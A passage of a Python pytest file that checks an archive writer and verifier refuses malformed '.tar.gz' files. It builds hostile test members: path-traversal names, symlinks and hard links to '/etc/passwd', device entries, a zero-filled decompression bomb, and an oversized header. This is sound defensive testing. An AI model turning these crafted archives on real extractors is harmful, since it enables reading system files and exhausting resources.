    assert calls == [("recipe", "b"), *(("commands", name) for name in ("c", "d.toml")), ("recipe", "f"),
                     ("commands", "h"), ("commands", "i")]  # fmt: skip
    assert changed["vary"] == [
        {"testbed": {"recipe": ["F"]}, "titles": ["g"]}, {"gateway.control.commands": [["H"], "I"]},
    ]  # fmt: skip
    assert changed["gateway"] == {"control": {"commands": ["C", "D.TOML"], "reset": "e"}}


def write_half(target: Path) -> None:
    with new_file(target, where="--output") as file:
        file.write(b"half")
        raise KeyboardInterrupt


def test_a_fifo_is_no_lock_of_a_folder(tmp_path: Path) -> None:
    folder = measured(tmp_path).folder
    (folder / ".lock").unlink()
    os.mkfifo(folder / ".lock")
    with pytest.raises(ResultError, match="not an ordinary file"):
        write_archive(folder)
    assert not list(tmp_path.glob("*.tar.gz"))


def test_nothing_is_overwritten_and_what_is_interrupted_leaves_nothing(tmp_path: Path) -> None:
    folder = measured(tmp_path).folder
    target = tmp_path / "a" / "router.tar.gz"
    target.parent.mkdir()
    target.write_text("mine", encoding="utf-8")
    assert main(["archive", str(folder), "--output", str(target)]) == 2
    assert target.read_text(encoding="utf-8") == "mine"
    target.unlink()
    with pytest.raises(KeyboardInterrupt):
        write_half(target)
    assert list(target.parent.iterdir()) == []
    with pytest.raises(ConfigError, match="inside the folder"):
        write_archive(folder, folder / "a.tar.gz")
    (tmp_path / "empty").mkdir()
    with pytest.raises(ResultError, match="holds no campaign"):
        write_archive(tmp_path / "empty")
    (folder / "link").symlink_to("/etc/passwd")
    with pytest.raises(ResultError, match="not an ordinary file"):
        write_archive(folder, target)
    assert list(target.parent.iterdir()) == []


def packed(path: Path, *members: tarfile.TarInfo | tuple[str, bytes], more: bytes = b"") -> Path:
    """Write an archive of any members."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tar.addfile(member)
            else:
                facts = tarfile.TarInfo(member[0])
                facts.size = len(member[1])
                tar.addfile(facts, io.BytesIO(member[1]))
    path.write_bytes(gzip.compress(content.getvalue() + more))
    return path


def special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    return member


SUMS = ("x/SHA256SUMS", b"")
DESCRIPTION = ("x/archive/archive.json", b"{}")


@pytest.mark.parametrize(
    ("members", "said"),
    [
        ([("../../x", b"")], "leads out of its folder"),
        ([("/etc/x", b"")], "leads out of its folder"),
        ([("x/a\nb", b"")], "leads out of its folder"),
        ([special("x/a", tarfile.SYMTYPE, "/etc")], "not an ordinary file"),
        ([special("x/a", tarfile.LNKTYPE, "/etc/passwd")], "not an ordinary file"),
        ([special("x/a", tarfile.CHRTYPE)], "not an ordinary file"),
        ([special("x/a", tarfile.DIRTYPE)], "not an ordinary file"),
        ([("x/a", b""), ("x/a", b"")], "holds x/a twice"),
        ([("x/a", b""), ("x/a/b", b"")], "a file and a folder"),
        ([("x/a", b"")], "no folder with SHA256SUMS"),
        ([("x/a", b""), ("y/a", b"")], "no folder with SHA256SUMS"),
        ([SUMS, DESCRIPTION], "archive/archive.json has no checksum"),
        ([("x/SHA256SUMS", b"nonsense"), DESCRIPTION], "line 1 of SHA256SUMS is not the checksum"),
        ([("x/SHA256SUMS", f"{'0' * 64}  archive/archive.json\n".encode()), DESCRIPTION], "its checksum differs"),
        ([("x/SHA256SUMS", f"{hashlib.sha256(b'{}').hexdigest()}  archive/archive.json\n".encode()), DESCRIPTION],
         "of another format"),
        ([("x/zeros", bytes(80 << 20))], "far more than an archive of its size"),
    ],
)  # fmt: skip
def test_an_archive_that_is_none_is_refused(
    members: list[tarfile.TarInfo | tuple[str, bytes]], said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = packed(tmp_path / "x.tar.gz", *members)
    for command in (["archive", "--verify"], ["run"]):
        assert main([*command, str(archive)]) == 2
        assert said in capsys.readouterr().err


def test_a_header_of_absurd_size_is_not_read_into_memory(tmp_path: Path) -> None:
    member = tarfile.TarInfo("x/a")
    member.type, member.size = tarfile.XHDTYPE, 1 << 40
    header = member.tobuf(tarfile.GNU_FORMAT)
    (tmp_path / "x.tar.gz").write_bytes(gzip.compress(header + bytes(1 << 20)))
    with pytest.raises(ConfigError, match="absurd size"):
        verify_archive(tmp_path / "x.tar.gz")


def test_every_damage_is_noticed(tmp_path: Path) -> None:
    whole = write_archive(measured(tmp_path).folder).path.read_bytes()
    damaged = tmp_path / "damaged.tar.gz"
    for cut in (0, 1, 2, 10, len(whole) // 2, len(whole) - 5, len(whole) - 1):
        damaged.write_bytes(whole[:cut])
        with pytest.raises(ConfigError):
            verify_archive(damaged)
    for at in (0, 3, 200, len(whole) // 3, len(whole) // 2, len(whole) - 6):
        damaged.write_bytes(whole[:at] + bytes([whole[at] ^ 0x10]) + whole[at + 1 :])
        if at == 3:
            continue  # a flag of gzip, which changes no content
        with pytest.raises(ConfigError):
            verify_archive(damaged)
    damaged.write_bytes(whole + b"more")
    with pytest.raises(ConfigError):
        verify_archive(damaged)
    with pytest.raises(ConfigError, match="cannot be read"):
        verify_archive(tmp_path / "missing.tar.gz")


def test_a_folder_for_temporary_files_that_is_full_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    archive = write_archive(measured(tmp_path).folder).path
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "missing"))
    with pytest.raises(ResultError, match="cannot be unpacked"):
        verify_archive(archive)


def test_paths_that_stay_inside() -> None:
    assert all(map(is_safe, ("a", "a/b.c", "ä/ b", "a/...")))
    assert not any(map(is_safe, ("", "/a", "a//b", "a/./b", "..", "a/..", "a\x00b", "a\x1b[0m", "a/" * 20 + "b")))
    assert read.EXPANSION_MAX < 1032  # what deflate can do at most


def test_json_of_both(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = measured(tmp_path).folder
    assert main(["archive", str(folder), "--json"]) == 0
    written = json.loads(capsys.readouterr().out)
    assert set(written) == {"path", "octets", "files", "sha256"}
    assert main(["archive", "--verify", written["path"], "--json"]) == 0
    verification = json.loads(capsys.readouterr().out)
    assert verification["holds"] is True and verification["sha256"] == written["sha256"]
    assert main(["archive", str(folder), "--verify", written["path"]]) == 2
    assert "either a result folder or --verify" in capsys.readouterr().err
